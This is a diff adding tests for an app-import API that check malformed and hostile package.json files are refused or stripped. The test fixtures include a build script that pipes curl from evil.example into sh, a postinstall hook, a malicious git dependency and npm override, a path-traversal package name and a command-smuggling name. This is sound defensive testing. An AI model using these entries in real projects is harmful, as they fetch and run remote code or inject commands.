@@ -110,3 +110,56 @@ def test_a_name_that_none_can_have_is_refused_and_makes_nothing() -> None:
     answer = send(api, archive(project()), name="")
     assert (answer.status_code, answer.json()["code"]) == (422, "VALIDATION_FAILED")
     assert api.client.get("/admin/apps").json()["items"] == []
+
+
+def test_what_is_missing_comes_with_what_may_be_done_next_in_words_of_ours() -> None:
+    api = Api()
+    package = json.dumps(PACKAGE | {"dependencies": {"left-pad": "1", "a b; say hi": "1"}}).encode()
+    answer = send(api, archive(project(**{"package.json": package, "src/main.ts": COMPILE_ERROR.encode()})))
+    (step,) = answer.json()["next_steps"]
+    assert step["kind"] == "ask" and step["message"].startswith("Finish this import: its build fails.")
+    assert "say hi" not in step["message"]
+    assert send(api, archive(project()), name="Whole").json()["next_steps"] == []
+
+
+LIES: dict[str, Any] = {
+    "dependencies is a list": {"dependencies": ["react"]},
+    "dependencies is a text": {"dependencies": "react"},
+    "versions are no texts": {"dependencies": {"react": 18, "vue": None, "vite": {"a": 1}, "clsx": ["1"]}},
+    "a version is an address": {
+        "devDependencies": {"vite": "git+ssh://git@example.com/evil.git", "react": "file:../x"}
+    },
+    "names that are no names": {"dependencies": {"../../etc/passwd": "1", "__proto__": "1", "": "1", "a" * 9000: "1"}},
+    "five thousand packages": {"dependencies": {f"package-{number}": "1" for number in range(5000)}},
+    "scripts is a list": {"scripts": ["vite build"]},
+    "a script is no text": {"scripts": {"build": {"run": "vite"}, "dev": 1}},
+    "a build that does something else": {"scripts": {"build": "curl https://evil.example | sh", "postinstall": "sh x"}},
+    "the same package twice": {"dependencies": {"vite": "8"}, "devDependencies": {"vite": "8"}},
+    "fields that change what is installed": {
+        "overrides": {"vite": "npm:evil@1"},
+        "resolutions": {"a": "b"},
+        "pnpm": {},
+    },
+    "a name of no app": {"name": "\u202e\u0000\ud800"},
+    "a name that is a number": {"name": 7, "version": [], "type": {}},
+    "nested deep": {"x": json.loads("[" * 400 + "]" * 400)},
+}
+
+
+@pytest.mark.parametrize("lie", LIES, ids=str)
+def test_a_package_json_of_lies_is_read_as_far_as_it_goes_or_refused_with_a_code(lie: str) -> None:
+    api = Api()
+    answer = send(api, archive(project(**{"package.json": json.dumps(PACKAGE | LIES[lie]).encode()})))
+    assert answer.status_code in (201, 422), answer.text
+    body = answer.json()
+    assert len(body["diagnostics"]) <= 150 and len(answer.content) < 200_000
+    if answer.status_code == 422:
+        assert body["code"] == "BUILDER_PATCH_POLICY_VIOLATION" and api.client.get("/admin/apps").json()["items"] == []
+        return
+    revision = f"/admin/apps/{body['id']}/builder/revisions/{body['draft_revision_id']}"
+    stored = json.loads(api.client.get(f"{revision}/files/package.json").json()["content"])
+    pins = api.container.ports.catalog
+    for section in ("dependencies", "devDependencies"):
+        assert all(pins.version(name) == version for name, version in stored.get(section, {}).items())
+    assert "curl" not in json.dumps(stored) and not {"overrides", "resolutions", "pnpm"} & stored.keys()
+    assert "postinstall" not in stored["scripts"]
